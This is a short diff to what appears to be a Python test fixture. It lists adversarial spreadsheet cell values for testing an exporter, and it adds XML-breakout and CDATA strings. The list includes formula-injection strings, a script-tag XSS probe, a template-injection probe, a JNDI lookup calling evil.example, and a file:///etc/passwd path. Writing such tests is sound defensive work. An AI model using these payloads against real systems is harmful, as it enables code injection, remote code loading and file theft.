@@ -9,4 +9,5 @@ CELLS = (
     "\"\r\n=1+1", "x\",=1+1,\"", "a\n=1+1\n+2", "김하나\n박둘", "👩‍👩‍👧‍👦 🇰🇷 e\u0301 \u0000 끝", "אבג مرحبا", "A" * 30_000,
     "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "_x0041_", "1e5", "00123", "2026-11-22", "1/2", "TRUE",
     "http://evil.example/", "mailto:a@b.example", "file:///etc/passwd", "internal:Sheet1!A1", "{=1+1}", "x" * 200 + "\n" * 50, "끝 \\ \\\\ ",
+    '<r></r></is></c><c r="A9"><f>1+1</f></c><c r="B9" t="inlineStr"><is><r></r>', "<r><t>x</t></r>", "]]>", "<![CDATA[=1+1]]>",
 )
